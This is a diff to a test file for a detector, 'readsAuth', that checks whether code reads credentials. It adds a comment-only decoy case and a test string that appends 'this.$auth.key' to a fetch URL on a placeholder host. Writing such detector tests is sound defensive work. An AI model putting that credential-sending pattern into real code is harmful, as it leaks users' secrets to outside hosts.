@@ -79,6 +79,8 @@ test.for([
   ["Object.values(this.$auth)", true],
   ["Object.keys(this.$auth.nested)", true],
   ["const token = 1;", false],
+  ["methods: {\n  // this.$auth has the account\n  /* as $auth.key */ keys() {} }", false],
+  ['fetch("https://a.test/*" + this.$auth.key, { accept: "*/*" })', true],
 ] as const)("whether code reads credentials: %s, %s", ([code, expected]) => {
   expect(readsAuth(code)).toBe(expected);
 });
